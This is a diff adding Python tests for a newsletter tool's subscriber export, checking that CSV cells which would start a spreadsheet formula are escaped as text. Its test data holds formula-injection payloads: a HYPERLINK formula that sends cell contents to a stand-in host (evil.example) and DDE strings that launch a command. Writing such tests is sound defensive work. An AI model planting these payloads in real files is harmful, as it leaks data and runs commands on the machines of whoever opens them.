@@ -1,0 +1,85 @@
+"""Spreadsheet formulas: `subscribers export` never hands a spreadsheet a formula to run.
+
+Before, cells such as ``=HYPERLINK(...)``, ``+cmd|...`` or ``@SUM(...)`` (a sign-up form's name
+field, a column someone pasted) went into the export as they were, and a writer who opened it
+in a spreadsheet ran them. The subscriber files themselves keep the bytes written in them.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from conftest import invoke
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a prize")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def write_list(site) -> bytes:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow(["email", "name", "status", "tags", "subscribed_at", "=source"])
+    for number, formula in enumerate(FORMULAS):
+        writer.writerow([f"reader{number}@example.com", formula, "active", formula,
+                         "2026-01-01T00:00:00Z", formula])
+    writer.writerow(["+plus@example.com", "Plain Name", "active", "", "", "web form"])
+    data = buffer.getvalue().encode("utf-8")
+    for old in (site / "subscribers").glob("*.csv"):
+        old.unlink()
+    (site / "subscribers" / "subscribers.csv").write_bytes(data)
+    return data
+
+
+def exported(site, *args: str) -> list[list[str]]:
+    result = invoke(site, "subscribers", "export", *args)
+    assert result.exit_code == 0, result.output
+    return list(csv.reader(io.StringIO(result.stdout)))
+
+
+def test_every_cell_that_would_start_a_formula_is_exported_as_text(site):
+    written = write_list(site)
+
+    rows = exported(site)
+
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    header, *readers = rows
+    assert header[-1] == "'=source"
+    by_address = {row[0]: row for row in readers}
+    for number, formula in enumerate(FORMULAS):
+        row = by_address[f"reader{number}@example.com"]
+        # The text itself, shown, never run (the list reads values with spaces trimmed).
+        assert row[1] == "'" + formula.strip()
+        assert row[5] == "'" + formula.strip()
+    assert by_address["'+plus@example.com"][1:2] == ["Plain Name"]  # plain cells stay plain
+    assert (site / "subscribers" / "subscribers.csv").read_bytes() == written
+
+
+def test_the_subscriber_file_keeps_the_formulas_byte_for_byte_through_an_edit(site):
+    written = write_list(site)
+
+    added = invoke(site, "subscribers", "add", "new@example.com", "--name", "=1+1")
+    out = site / "export.csv"
+    invoke(site, "subscribers", "export", "--out", str(out))
+
+    assert added.exit_code == 0
+    after = (site / "subscribers" / "subscribers.csv").read_bytes()
+    assert after.startswith(written)  # every old row as it was; the new one appended
+    assert b"=1+1" in after[len(written):]
+    assert "'=1+1" in out.read_text(encoding="utf-8")
+
+
+def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
+    # The list trims spaces around the values it reads, so no exported cell starts with a tab
+    # today; OWASP's rule covers it all the same.
+    from newsletter.subscribers.export import as_text
+
+    assert [as_text(cell) for cell in ("\t=1+1", "\r=1+1", "a=1", "")] == [
+        "'\t=1+1", "'\r=1+1", "a=1", ""]
